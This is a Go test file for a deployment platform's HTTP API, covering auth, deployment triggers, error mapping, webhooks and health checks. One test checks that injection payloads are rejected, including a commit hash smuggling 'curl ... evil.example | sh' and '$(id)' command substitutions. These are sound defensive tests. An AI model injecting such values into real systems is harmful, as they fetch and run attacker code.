package v0_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"sync"
	"testing"
	"time"

	"github.com/danielgtaylor/huma/v2"
	"github.com/danielgtaylor/huma/v2/adapters/humago"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	v0 "github.com/riverly-dev/riverly/internal/platform/api/handlers/v0"
	"github.com/riverly-dev/riverly/internal/platform/service"
	servicetesting "github.com/riverly-dev/riverly/internal/platform/service/testing"
	"github.com/riverly-dev/riverly/pkg/models"
	"github.com/riverly-dev/riverly/pkg/platform/auth"
	"github.com/riverly-dev/riverly/pkg/platform/database"
)

const testSeed = "0101010101010101010101010101010101010101010101010101010101010101"

var webhookCreds = auth.BasicCredentials{Username: "riverlybot", Password: "s3cret"}

func testConfig() huma.Config {
	cfg := huma.DefaultConfig("Test API", "1.0.0")
	cfg.CreateHooks = []func(huma.Config) huma.Config{}
	return cfg
}

type recordingEvents struct {
	mu       sync.Mutex
	payloads [][]byte
	result   bool
}

func (r *recordingEvents) Handle(_ context.Context, payload []byte) bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.payloads = append(r.payloads, payload)
	return r.result
}

type testAPI struct {
	mux    *http.ServeMux
	jwt    *auth.JWTManager
	svc    *servicetesting.FakeDeploymentService
	events *recordingEvents
}

func newTestAPI(t *testing.T) *testAPI {
	t.Helper()
	jwtManager, err := auth.NewJWTManager(testSeed, time.Hour)
	require.NoError(t, err)

	mux := http.NewServeMux()
	api := humago.New(mux, testConfig())
	api.UseMiddleware(auth.AuthnMiddleware(jwtManager))

	svc := servicetesting.NewFakeDeploymentService()
	events := &recordingEvents{result: true}
	v0.RegisterDeploymentsEndpoints(api, "/v0", svc)
	v0.RegisterInternalEndpoints(api, "/internal/v0", webhookCreds, events, svc)
	return &testAPI{mux: mux, jwt: jwtManager, svc: svc, events: events}
}

func (a *testAPI) token(t *testing.T, orgID string) string {
	t.Helper()
	tok, err := a.jwt.GenerateToken(context.Background(), orgID, "mem_1")
	require.NoError(t, err)
	return tok.Token
}

func (a *testAPI) do(method, path, authz string, body []byte) *httptest.ResponseRecorder {
	req := httptest.NewRequest(method, path, bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	if authz != "" {
		req.Header.Set("Authorization", authz)
	}
	w := httptest.NewRecorder()
	a.mux.ServeHTTP(w, req)
	return w
}

func basic(user, pass string) string {
	return "Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+pass))
}

const deployBody = `{"serverId":"srv_1","target":"preview","source":{"repo":{"owner":"acme","repo":"widget","ref":"main","commitHash":"abc1234"}}}`

func TestTriggerDeploymentEndpoint(t *testing.T) {
	a := newTestAPI(t)
	a.svc.TriggerDeploymentFn = func(_ context.Context, req service.TriggerRequest) (*service.TriggerResult, error) {
		return &service.TriggerResult{DeploymentID: "d1", BuildID: "b1", RevisionID: "r1"}, nil
	}

	w := a.do(http.MethodPost, "/v0/deployments", "Bearer "+a.token(t, "org_1"), []byte(deployBody))
	require.Equal(t, http.StatusCreated, w.Code, w.Body.String())

	var got service.TriggerResult
	require.NoError(t, json.Unmarshal(w.Body.Bytes(), &got))
	assert.Equal(t, "d1", got.DeploymentID)
	assert.Equal(t, "b1", got.BuildID)
	assert.Equal(t, "r1", got.RevisionID)

	require.Len(t, a.svc.Triggered, 1)
	req := a.svc.Triggered[0]
	assert.Equal(t, "org_1", req.OrganizationID)
	assert.Equal(t, "mem_1", req.MemberID)
	assert.Equal(t, models.TargetPreview, req.Target)
	require.NotNil(t, req.Source.Repo)
	assert.Equal(t, "abc1234", req.Source.Repo.CommitHash)
}

func TestTriggerDeploymentRequiresSession(t *testing.T) {
	a := newTestAPI(t)

	w := a.do(http.MethodPost, "/v0/deployments", "", []byte(deployBody))
	assert.Equal(t, http.StatusUnauthorized, w.Code)

	w = a.do(http.MethodPost, "/v0/deployments", "Bearer not-a-token", []byte(deployBody))
	assert.Equal(t, http.StatusUnauthorized, w.Code)
	assert.Empty(t, a.svc.Triggered)
}

func TestTriggerDeploymentRejectsUnknownTarget(t *testing.T) {
	a := newTestAPI(t)
	body := `{"serverId":"srv_1","target":"staging","source":{"revisionId":"r1"}}`

	w := a.do(http.MethodPost, "/v0/deployments", "Bearer "+a.token(t, "org_1"), []byte(body))
	assert.Equal(t, http.StatusUnprocessableEntity, w.Code)
	assert.Empty(t, a.svc.Triggered)
}

func TestTriggerDeploymentRejectsUnsafeSource(t *testing.T) {
	a := newTestAPI(t)
	for _, body := range []string{
		`{"serverId":"srv_1","target":"preview","source":{"repo":{"owner":"acme","repo":"widget","ref":"main","commitHash":"abc1234; curl -s https://evil.example/x | sh #"}}}`,
		`{"serverId":"srv_1","target":"preview","source":{"repo":{"owner":"acme;id","repo":"widget","ref":"main","commitHash":"abc1234"}}}`,
		`{"serverId":"srv_1","target":"preview","source":{"artifact":{"uri":"gs://bucket/$(id).tgz"}}}`,
	} {
		w := a.do(http.MethodPost, "/v0/deployments", "Bearer "+a.token(t, "org_1"), []byte(body))
		assert.Equal(t, http.StatusUnprocessableEntity, w.Code, body)
	}
	assert.Empty(t, a.svc.Triggered)
}

func TestTriggerDeploymentErrorMapping(t *testing.T) {
	tests := []struct {
		code   service.ErrorCode
		status int
	}{
		{service.CodeValidation, http.StatusBadRequest},
		{service.CodeInstallationNotFound, http.StatusForbidden},
		{service.CodeServerNotInstalled, http.StatusPreconditionFailed},
		{service.CodeRateLimited, http.StatusTooManyRequests},
		{service.CodeBuildInsert, http.StatusInternalServerError},
		{service.CodeDeployInsert, http.StatusInternalServerError},
		{service.CodeRevisionInsert, http.StatusInternalServerError},
	}
	for _, tt := range tests {
		t.Run(string(tt.code), func(t *testing.T) {
			a := newTestAPI(t)
			a.svc.TriggerDeploymentFn = func(context.Context, service.TriggerRequest) (*service.TriggerResult, error) {
				return nil, &service.Error{Code: tt.code, Message: "boom"}
			}
			w := a.do(http.MethodPost, "/v0/deployments", "Bearer "+a.token(t, "org_1"), []byte(deployBody))
			assert.Equal(t, tt.status, w.Code, w.Body.String())
		})
	}

	t.Run("unexpected", func(t *testing.T) {
		a := newTestAPI(t)
		a.svc.TriggerDeploymentFn = func(context.Context, service.TriggerRequest) (*service.TriggerResult, error) {
			return nil, errors.New("connection reset")
		}
		w := a.do(http.MethodPost, "/v0/deployments", "Bearer "+a.token(t, "org_1"), []byte(deployBody))
		assert.Equal(t, http.StatusInternalServerError, w.Code)
	})
}

func TestTriggerDeploymentSubmissionFailureReturnsIDs(t *testing.T) {
	a := newTestAPI(t)
	a.svc.TriggerDeploymentFn = func(context.Context, service.TriggerRequest) (*service.TriggerResult, error) {
		return &service.TriggerResult{DeploymentID: "d9", BuildID: "b9", RevisionID: "r9"},
			&service.Error{Code: service.CodeJobSubmission, Message: "failed to submit build job", Err: errors.New("503")}
	}

	w := a.do(http.MethodPost, "/v0/deployments", "Bearer "+a.token(t, "org_1"), []byte(deployBody))
	require.Equal(t, http.StatusBadGateway, w.Code)

	var problem huma.ErrorModel
	require.NoError(t, json.Unmarshal(w.Body.Bytes(), &problem))
	assert.Equal(t, "failed to submit build job", problem.Detail)
	values := map[string]any{}
	for _, d := range problem.Errors {
		values[d.Location] = d.Value
	}
	assert.Equal(t, "d9", values["deploymentId"])
	assert.Equal(t, "b9", values["buildId"])
	assert.Equal(t, "r9", values["revisionId"])
}

func TestGetDeploymentEndpoint(t *testing.T) {
	a := newTestAPI(t)
	a.svc.Details["d1"] = &models.DeploymentDetail{
		Deployment: models.Deployment{ID: "d1", OrganizationID: "org_1", Status: models.StatusRunning},
		Build:      models.Build{ID: "b1", Status: models.StatusRunning},
	}

	w := a.do(http.MethodGet, "/v0/deployments/d1", "Bearer "+a.token(t, "org_1"), nil)
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())
	var detail models.DeploymentDetail
	require.NoError(t, json.Unmarshal(w.Body.Bytes(), &detail))
	assert.Equal(t, models.StatusRunning, detail.Deployment.Status)
	assert.Equal(t, "b1", detail.Build.ID)

	w = a.do(http.MethodGet, "/v0/deployments/d1", "Bearer "+a.token(t, "org_2"), nil)
	assert.Equal(t, http.StatusNotFound, w.Code)

	w = a.do(http.MethodGet, "/v0/deployments/d1", "", nil)
	assert.Equal(t, http.StatusUnauthorized, w.Code)
}

func TestListDeploymentsEndpoint(t *testing.T) {
	a := newTestAPI(t)
	var gotOlderThan time.Duration
	var gotOrg string
	a.svc.ListStaleDeploymentsFn = func(_ context.Context, orgID *string, olderThan time.Duration) ([]*models.Deployment, error) {
		gotOrg, gotOlderThan = *orgID, olderThan
		return []*models.Deployment{{ID: "d1", OrganizationID: *orgID, Status: models.StatusPlaced}}, nil
	}

	w := a.do(http.MethodGet, "/v0/deployments", "Bearer "+a.token(t, "org_1"), nil)
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())
	assert.Equal(t, "org_1", gotOrg)
	assert.Equal(t, 30*time.Minute, gotOlderThan)

	var body v0.DeploymentsListBody
	require.NoError(t, json.Unmarshal(w.Body.Bytes(), &body))
	assert.Equal(t, 1, body.Count)
	assert.Equal(t, "d1", body.Deployments[0].ID)

	w = a.do(http.MethodGet, "/v0/deployments?olderThan=2h", "Bearer "+a.token(t, "org_1"), nil)
	require.Equal(t, http.StatusOK, w.Code)
	assert.Equal(t, 2*time.Hour, gotOlderThan)

	w = a.do(http.MethodGet, "/v0/deployments?olderThan=soon", "Bearer "+a.token(t, "org_1"), nil)
	assert.Equal(t, http.StatusBadRequest, w.Code)

	w = a.do(http.MethodGet, "/v0/deployments?status=ready", "Bearer "+a.token(t, "org_1"), nil)
	assert.Equal(t, http.StatusUnprocessableEntity, w.Code)
}

func TestBuildEventWebhook(t *testing.T) {
	tests := []struct {
		name       string
		authz      string
		body       string
		result     bool
		wantStatus int
		wantOK     bool
		delivered  bool
	}{
		{name: "missing credentials", body: `{}`, wantStatus: http.StatusUnauthorized},
		{name: "wrong password", authz: basic("riverlybot", "nope"), body: `{}`, wantStatus: http.StatusUnauthorized},
		{name: "bearer token", authz: "Bearer abc", body: `{}`, wantStatus: http.StatusUnauthorized},
		{name: "accepted", authz: basic("riverlybot", "s3cret"), body: `{"context":{"eventId":"e1"}}`, result: true,
			wantStatus: http.StatusOK, wantOK: true, delivered: true},
		{name: "discarded", authz: basic("riverlybot", "s3cret"), body: `{"context":{}}`, result: false,
			wantStatus: http.StatusOK, wantOK: false, delivered: true},
		{name: "malformed json", authz: basic("riverlybot", "s3cret"), body: `{"context":`, result: false,
			wantStatus: http.StatusOK, wantOK: false, delivered: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := newTestAPI(t)
			a.events.result = tt.result

			w := a.do(http.MethodPost, "/internal/v0/webhooks/build-events", tt.authz, []byte(tt.body))
			require.Equal(t, tt.wantStatus, w.Code, w.Body.String())

			if tt.wantStatus == http.StatusOK {
				var body v0.OKBody
				require.NoError(t, json.Unmarshal(w.Body.Bytes(), &body))
				assert.Equal(t, tt.wantOK, body.OK)
			}
			if tt.delivered {
				require.Len(t, a.events.payloads, 1)
				assert.Equal(t, tt.body, string(a.events.payloads[0]))
			} else {
				assert.Empty(t, a.events.payloads)
			}
		})
	}
}

func TestSetBuildStatusEndpoint(t *testing.T) {
	a := newTestAPI(t)
	authz := basic("riverlybot", "s3cret")

	w := a.do(http.MethodPost, "/internal/v0/builds/b1/status", authz, []byte(`{"status":"error"}`))
	require.Equal(t, http.StatusOK, w.Code, w.Body.String())
	assert.Equal(t, models.StatusError, a.svc.StatusCalls["b1"])

	w = a.do(http.MethodPost, "/internal/v0/builds/b1/status", authz, []byte(`{"status":"exploded"}`))
	assert.Equal(t, http.StatusUnprocessableEntity, w.Code)

	w = a.do(http.MethodPost, "/internal/v0/builds/b1/status", "", []byte(`{"status":"error"}`))
	assert.Equal(t, http.StatusUnauthorized, w.Code)

	a.svc.SetBuildStatusFn = func(context.Context, string, models.Status) error { return database.ErrNotFound }
	w = a.do(http.MethodPost, "/internal/v0/builds/missing/status", authz, []byte(`{"status":"error"}`))
	assert.Equal(t, http.StatusNotFound, w.Code)
}

type fakePinger struct{ err error }

func (p fakePinger) Ping(context.Context) error { return p.err }

func TestCommonEndpoints(t *testing.T) {
	mux := http.NewServeMux()
	api := humago.New(mux, testConfig())
	v0.RegisterHealthEndpoint(api, "/v0", fakePinger{})
	v0.RegisterPingEndpoint(api, "/v0")
	v0.RegisterVersionEndpoint(api, "/v0", &v0.VersionBody{Version: "1.2.3", GitCommit: "abc", BuildTime: "now"})

	get := func(path string) *httptest.ResponseRecorder {
		w := httptest.NewRecorder()
		mux.ServeHTTP(w, httptest.NewRequest(http.MethodGet, path, nil))
		return w
	}

	w := get("/v0/health")
	require.Equal(t, http.StatusOK, w.Code)
	assert.JSONEq(t, `{"status":"ok","database":"ok"}`, w.Body.String())

	w = get("/v0/ping")
	require.Equal(t, http.StatusOK, w.Code)
	assert.JSONEq(t, `{"pong":true}`, w.Body.String())

	w = get("/v0/version")
	require.Equal(t, http.StatusOK, w.Code)
	assert.JSONEq(t, `{"version":"1.2.3","git_commit":"abc","build_time":"now"}`, w.Body.String())

	mux = http.NewServeMux()
	api = humago.New(mux, testConfig())
	v0.RegisterHealthEndpoint(api, "/v0", fakePinger{err: errors.New("down")})
	w = get("/v0/health")
	assert.Equal(t, http.StatusServiceUnavailable, w.Code)
}
